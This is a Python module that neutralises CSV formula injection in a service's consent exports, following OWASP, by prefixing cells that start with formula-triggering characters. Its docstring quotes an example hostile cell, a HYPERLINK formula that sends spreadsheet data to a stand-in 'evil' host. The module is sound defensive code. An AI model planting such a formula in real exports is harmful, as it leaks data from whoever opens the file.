"""CSV cells a spreadsheet will not run as formulas (CSV injection, OWASP).

A consent export is opened in Excel or LibreOffice by people who trust it; a cell that starts
with `=`, `+`, `-` or `@` (or a tab or carriage return, which some spreadsheets skip before
looking) is taken as a formula, so a customer's or a client's text such as
`=HYPERLINK("http://evil/?"&A1)` would run on the auditor's machine. OWASP's advice is to prefix
such a cell with a single quote, which spreadsheets show as text; every CSV writer of the service
passes its cells through `formula_safe`.

defusedcsv was considered: it also rewrites cells starting with `|` or `%` and escapes every `|`
inside them, but leaves a leading tab or carriage return alone, so it changes more data than
needed and misses two of the cases; this is the one rule OWASP gives, in a few lines. The JSON
Lines export keeps every value exactly as stored, for programs.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any, Final

#: Leading characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")


def formula_safe(value: Any) -> Any:
    """``value``, with a `'` in front when it is text a spreadsheet would run as a formula.

    Only text is changed: numbers, None and the rest are written by the csv module as usual."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def formula_safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """A row for `csv.DictWriter` with every cell passed through `formula_safe`."""
    return {name: formula_safe(value) for name, value in row.items()}
